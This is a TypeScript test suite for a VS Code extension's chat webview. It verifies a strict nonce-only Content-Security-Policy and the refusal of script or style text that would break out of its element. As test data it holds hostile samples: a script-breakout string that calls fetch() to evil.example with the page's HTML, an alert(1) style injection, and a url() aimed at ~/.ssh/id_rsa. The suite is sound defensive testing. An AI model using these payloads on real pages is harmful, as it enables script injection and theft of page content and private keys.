// The chat view's HTML as the extension builds it (src/extension/webviewHtml.ts, called with a fake
// webview): its Content-Security-Policy allows no inline or eval'd script and no remote origin, starts
// from default-src 'none', and the page's one script and one style carry the policy's fresh nonce. The
// script and styles are the shipped files written into the page (src/extension/webviewAssets.ts): a
// text that could end its element early, and so put the rest of it outside the nonce, is refused.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'parse5';
import { fakeVscode, installFakeVscode, type FakeUri } from './fakeVscodeModule';

installFakeVscode();

const CSP_SOURCE = 'https://file+.vscode-resource.vscode-cdn.net';
const DIST = path.join(__dirname, '..', '..', 'dist');

function fakeWebview() {
  return {
    cspSource: CSP_SOURCE,
    asWebviewUri: (resource: FakeUri) => ({ toString: () => `${CSP_SOURCE}${resource.path}` }),
  };
}

function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of policy.split(';').map((p) => p.trim()).filter(Boolean)) {
    const [name, ...sources] = part.split(/\s+/);
    assert.ok(!map.has(name as string), `directive ${name} appears once`);
    map.set(name as string, sources);
  }
  return map;
}

/** A source that lets in content from anywhere but the extension's own files. */
function isRemote(source: string): boolean {
  if (source === CSP_SOURCE) return false;
  return /^(\*|https?:|wss?:|ftp:|blob:|filesystem:|\/\/)/i.test(source) || /^[a-z0-9.-]+\.[a-z]{2,}(:\d+)?(\/|$)/i.test(source) || source.includes('*');
}

interface ParsedNode {
  nodeName: string;
  attrs?: Array<{ name: string; value: string }>;
  childNodes?: ParsedNode[];
  content?: ParsedNode;
  value?: string;
}

/** The page as a browser's parser sees it: every element of `name`, with its attributes and its text. */
function elementsOf(page: string, name: string): Array<{ attributes: Map<string, string>; text: string }> {
  const found: Array<{ attributes: Map<string, string>; text: string }> = [];
  const walk = (node: ParsedNode): void => {
    if (node.nodeName === name) {
      const text = (node.childNodes ?? []).map((child) => child.value ?? '').join('');
      found.push({ attributes: new Map((node.attrs ?? []).map((a) => [a.name, a.value])), text });
    }
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parse(page) as unknown as ParsedNode);
  return found;
}

type WebviewHtml = typeof import('../../src/extension/webviewHtml');
type WebviewAssetsModule = typeof import('../../src/extension/webviewAssets');

describe('security: the webview Content-Security-Policy', () => {
  let html: string;
  let html2: string;
  let pages: WebviewHtml;
  let assets: WebviewAssetsModule;
  const shipped = { script: '', style: '' };

  before(async () => {
    pages = await import('../../src/extension/webviewHtml');
    assets = await import('../../src/extension/webviewAssets');
    shipped.script = fs.readFileSync(path.join(DIST, 'webview.js'), 'utf8');
    shipped.style = fs.readFileSync(path.join(DIST, 'webview.css'), 'utf8');
    // The host's own types are the real vscode ones; the fake carries only what the functions use.
    const read = assets.readWebviewAssets as unknown as (webview: ReturnType<typeof fakeWebview>, uri: FakeUri) => ReturnType<WebviewAssetsModule['readWebviewAssets']>;
    const extensionUri = fakeVscode.Uri.file(path.dirname(DIST));
    const build = () => pages.chatViewHtml(fakeWebview(), pages.createNonce(), read(fakeWebview(), extensionUri), { language: 'zh-cn', bundle: { 'Send "it"</body>': '发送 "它" <script>' } });
    html = build();
    html2 = build();
  });

  function policyOf(page: string): { policy: string; map: Map<string, string[]> } {
    const metas = [...page.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/gi)];
    assert.equal(metas.length, 1, 'exactly one CSP meta tag');
    const policy = (metas[0] as RegExpMatchArray)[1] as string;
    return { policy, map: directives(policy) };
  }

  it("starts from default-src 'none'", () => {
    assert.deepEqual(policyOf(html).map.get('default-src'), ["'none'"]);
  });

  it('allows no script but the nonce-carrying one, no eval and no remote origin for scripts', () => {
    const { map } = policyOf(html);
    const scripts = map.get('script-src');
    assert.ok(scripts, 'script-src is set (not inherited loosely)');
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'wasm-unsafe-eval'", "'strict-dynamic'", "'self'"]) {
      assert.ok(!scripts.includes(bad), `script-src has no ${bad}`);
    }
    assert.ok(scripts.every((s) => /^'nonce-[A-Za-z0-9+/]{22}==?'$/.test(s)), `script-src is a 128-bit nonce only: ${scripts.join(' ')}`);
    for (const name of ['script-src-elem', 'script-src-attr', 'worker-src']) assert.ok(!map.has(name) || map.get(name)?.join() === "'none'", `${name} opens nothing`);
  });

  it('names no remote origin in any directive, and shuts connect, frame, form and base', () => {
    const { map } = policyOf(html);
    for (const [name, sources] of map) {
      for (const source of sources) assert.ok(!isRemote(source), `${name} ${source} is not a remote origin`);
      assert.ok(!sources.includes("'unsafe-inline'") || name.startsWith('style'), `${name} has no unsafe-inline`);
    }
    for (const name of ['connect-src', 'frame-src', 'form-action', 'base-uri']) assert.deepEqual(map.get(name), ["'none'"], `${name} 'none'`);
    for (const name of ['style-src', 'font-src', 'img-src']) {
      assert.ok(!(map.get(name) ?? []).includes("'unsafe-inline'"), `${name} has no unsafe-inline`);
    }
  });

  it('puts the policy nonce on the one script and the one style, which are the shipped files, and draws a fresh nonce per page', () => {
    const { map } = policyOf(html);
    const nonce = (map.get('script-src')?.[0] ?? '').slice("'nonce-".length, -1);
    assert.deepEqual(map.get('style-src'), [`'nonce-${nonce}'`], 'style-src is the same nonce only');
    const scripts = elementsOf(html, 'script');
    assert.equal(scripts.length, 1, 'the page has one script element');
    const [script] = scripts as [(typeof scripts)[number]];
    assert.equal(script.attributes.get('nonce'), nonce, 'the script has the nonce');
    assert.ok(!script.attributes.has('src'), 'the script is written into the page');
    assert.ok(script.text === shipped.script, 'the script element holds exactly dist/webview.js, to its last character');
    const styles = elementsOf(html, 'style');
    assert.equal(styles.length, 1, 'the page has one style element');
    const [style] = styles as [(typeof styles)[number]];
    assert.equal(style.attributes.get('nonce'), nonce, 'the style has the nonce');
    assert.equal(style.text.length > shipped.style.length * 0.99, true, 'the style element holds dist/webview.css');
    assert.doesNotMatch(style.text, /url\(\s*["']?\.\//, 'no relative URL is left in the styles');
    assert.ok(style.text.includes(`url("${CSP_SOURCE}${DIST}/codicon.ttf?`), "the codicon font comes from the extension's dist/ folder");
    assert.deepEqual(elementsOf(html, 'link'), [], 'no stylesheet is fetched');
    assert.doesNotMatch(html.replace(shipped.script, ''), /\son[a-z]+\s*=/i, 'no inline event handler attributes');
    assert.doesNotMatch(html.replace(shipped.script, ''), /\sstyle\s*=/i, 'no style attributes');
    const other = (policyOf(html2).map.get('script-src')?.[0] ?? '').slice("'nonce-".length, -1);
    assert.notEqual(other, nonce, 'each page gets its own nonce');
  });

  it("names the code highlighter's shipped file on the page's script, which the policy lets in by the nonce alone", () => {
    const { map } = policyOf(html);
    const [script] = elementsOf(html, 'script');
    assert.ok(script, 'the page has its script');
    assert.equal(script.attributes.get('data-svc-highlighter'), `${CSP_SOURCE}${DIST}/webviewHighlight.js`, "the highlighter comes from the extension's dist/ folder");
    assert.ok(fs.existsSync(path.join(DIST, 'webviewHighlight.js')), 'dist/webviewHighlight.js is built');
    // No origin in script-src: the file loads only as a script the page gives its own nonce (test/webview's highlighting cases).
    assert.ok(!(map.get('script-src') ?? []).includes(CSP_SOURCE), 'script-src names no origin, not even the extension files');
  });

  describe('a script or style that would end its element early is refused', () => {
    const hostileScripts = [
      'var a = "</script><script>fetch(`https://evil.example/?${document.body.innerHTML}`)</script>";',
      'var a = "</SCRIPT >";',
      'var a = "</script/";',
      // After <!--, a <script makes the parser skip the page's own </script>: what follows it would be script too.
      'var a = "<!--"; var b = "<script>";',
      'var a = "<script\t";',
    ];
    for (const script of hostileScripts) {
      it(`script: ${JSON.stringify(script.slice(0, 40))}`, () => {
        assert.throws(
          () => assets.checkScriptEmbeddable('dist/webview.js', script),
          (error: unknown) => error instanceof assets.WebviewAssetError && error.file === 'dist/webview.js' && /would end or nest the page's script element/.test(error.message),
        );
      });
    }

    it('unchecked, the attack works: the parser sees a second script the nonce never covered', () => {
      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script: hostileScripts[0] as string, style: '', highlighterUri: '' }, { language: 'en', bundle: {} });
      assert.equal(elementsOf(page, 'script').length, 2, 'an unchecked script splits into two elements');
    });

    it('a script that only mentions those words in other forms is kept whole', () => {
      const script = 'var a = "<\\/script>", b = "<!--", c = /<script(?=\\s|>)/, d = "<scripts>";';
      assert.equal(assets.checkScriptEmbeddable('dist/webview.js', script), script);
      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script, style: '', highlighterUri: '' }, { language: 'en', bundle: {} });
      assert.deepEqual(elementsOf(page, 'script').map((s) => s.text), [script]);
    });

    it('styles: an end of the element, or a URL outside the shipped folder', () => {
      const resolve = (file: string) => `${CSP_SOURCE}/ext/dist/${file}`;
      for (const [style, problem] of [
        ['a{}</style><script>alert(1)</script>', /would end the page's style element/],
        ['a{}</STYLE\n>', /would end the page's style element/],
        ['@font-face{src:url("./../../.ssh/id_rsa")}', /outside the folder it ships in/],
        ['@font-face{src:url(./fonts//x.ttf)}', /outside the folder it ships in/],
      ] as const) {
        assert.throws(
          () => assets.embeddableStyle('dist/webview.css', style, resolve),
          (error: unknown) => error instanceof assets.WebviewAssetError && problem.test(error.message),
          style,
        );
      }
      assert.equal(assets.embeddableStyle('dist/webview.css', '@font-face{src:url("./codicon.ttf?ab12") format("truetype")} b{background:url(./a/b.png)}', resolve), `@font-face{src:url("${CSP_SOURCE}/ext/dist/codicon.ttf?ab12") format("truetype")} b{background:url("${CSP_SOURCE}/ext/dist/a/b.png")}`);
    });

    it('the view shows why, with no script, when a shipped file is refused or missing', () => {
      const error = new assets.WebviewAssetError('dist/webview.js', 'contains "</script>" at character 9, which would end or nest the page\'s script element');
      const page = pages.chatViewErrorHtml(error);
      assert.deepEqual(elementsOf(page, 'script'), []);
      assert.match(page, /content="default-src 'none'"/);
      assert.match(page, /The chat view could not start: dist\/webview\.js contains &#34;&#60;\/script&#62;&#34; at character 9/);
      const missing = fakeVscode.Uri.file('/nowhere');
      const read = assets.readWebviewAssets as unknown as (webview: ReturnType<typeof fakeWebview>, uri: FakeUri) => unknown;
      assert.throws(() => read(fakeWebview(), missing), (e: unknown) => e instanceof assets.WebviewAssetError && /dist\/webview\.js could not be read \(ENOENT\)/.test(e.message));
    });
  });
});
